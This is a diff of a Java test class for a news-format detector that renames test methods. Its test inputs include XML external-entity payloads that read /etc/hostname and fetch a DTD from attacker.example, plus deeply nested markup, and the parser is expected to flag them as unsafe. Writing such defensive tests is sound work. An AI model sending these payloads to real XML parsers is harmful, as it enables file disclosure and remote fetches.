@@ -41,7 +41,7 @@ class FormatsTest {
         "reuters21578.sgm, reuters21578",
         "mail.eml, email"
     })
-    void recognisesAFormatByWhatItIs(String file, String format) {
+    void shouldRecogniseAFormatByWhatItIs(String file, String format) {
         assertThat(Formats.read(text(file)).format()).isEqualTo(format);
     }
 
@@ -72,7 +72,7 @@ class FormatsTest {
                 "Subject: News\\n folded: x\\nMIME-Version: 1.0\\n\\nText|email",
                 "From: a@b.example\\nDate: Thu, 26 Feb 2026 10:15:30 GMT\\nSubject: News\\n\\nText|email"
             })
-    void recognisesTheSmallestItemOfAFormat(String input, String format) {
+    void shouldRecogniseTheSmallestItemOfAFormat(String input, String format) {
         String item = input.startsWith("{") || input.startsWith("[") ? input.replace('\'', '"') : input;
 
         assertThat(Formats.read(item.replace("\\n", "\n")).format()).isEqualTo(format);
@@ -88,7 +88,7 @@ class FormatsTest {
                 "{\"temperature\":12}|JSON with the keys temperature",
                 "{\"uri\":\"urn:x:1\",\"temperature\":12}|JSON with the keys uri, temperature"
             })
-    void namesWhatItDoesNotRead(String input, String name) {
+    void shouldNameWhatItDoesNotRead(String input, String name) {
         Reading reading = Formats.read(input);
 
         assertThat(reading.format()).isEqualTo("unknown");
@@ -99,7 +99,7 @@ class FormatsTest {
     }
 
     @Test
-    void recognisesTheFormatsThatAreFramedInControlCharacters() {
+    void shouldRecogniseFormatsFramedInControlCharacters() {
         byte[] iptc7901 = "\r\n\u007f\u0001abc0001 4 pl 100\r\n\u0002Text\u0003".getBytes(StandardCharsets.US_ASCII);
         byte[] anpa = "\u0016\u0016\u0001a0001\u001f".getBytes(StandardCharsets.US_ASCII);
         byte[] text = "Paris".getBytes(StandardCharsets.US_ASCII);
@@ -111,7 +111,7 @@ class FormatsTest {
     }
 
     @Test
-    void anUnsafeDocumentStillSaysItsFormat() {
+    void shouldSayTheFormatOfAnUnsafeDocument() {
         Reading reading = Formats.read("<!DOCTYPE nitf [<!ENTITY a 'b'>]><nitf>&a;</nitf>");
 
         assertThat(reading.format()).isEqualTo("nitf");
@@ -127,7 +127,7 @@ class FormatsTest {
                 "Note: this is text\nand more: of it",
                 "12 dead in flood"
             })
-    void aTextThatStartsLikeAnotherFormatIsText(String input) {
+    void shouldReadTextThatStartsLikeAnotherFormatAsText(String input) {
         assertThat(Formats.read(input).format()).isEqualTo("text");
     }
 
@@ -138,12 +138,12 @@ class FormatsTest {
                 "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/hostname'>]><newsItem xmlns='http://iptc.org/std/nar/2006-10-01/'>&a;</newsItem>",
                 "<!doctype x [\n<!entity % p SYSTEM 'http://attacker.example/x.dtd'> %p;]><nitf/>"
             })
-    void aDocumentThatDeclaresEntitiesIsUnsafe(String input) {
+    void shouldRefuseADocumentThatDeclaresEntitiesAsUnsafe(String input) {
         assertThat(code(Formats.read(input).found().get(0))).isEqualTo("FMT-UNSAFE");
     }
 
     @Test
-    void whatNestsTooDeepIsUnsafe() {
+    void shouldRefuseWhatNestsTooDeepAsUnsafe() {
         String xml = "<newsItem xmlns='http://iptc.org/std/nar/2006-10-01/'>" + "<a>".repeat(5000);
         String json = "[".repeat(5000);
 
@@ -160,12 +160,12 @@ class FormatsTest {
                 "<?xml version='1.0'?>  ",
                 "<!-- nothing follows -->"
             })
-    void brokenMarkupIsMalformed(String input) {
+    void shouldRefuseBrokenMarkupAsMalformed(String input) {
         assertThat(code(Formats.read(input).found().get(0))).isEqualTo("FMT-MALFORMED");
     }
 
     @Test
-    void aMessageWithoutItemsIsAHeartbeat() {
+    void shouldTakeAMessageWithoutItemsForAHeartbeat() {
         Found found = Formats.read("<newsMessage xmlns='http://iptc.org/std/nar/2006-10-01/'><header/></newsMessage>")
                 .found()
                 .get(0);
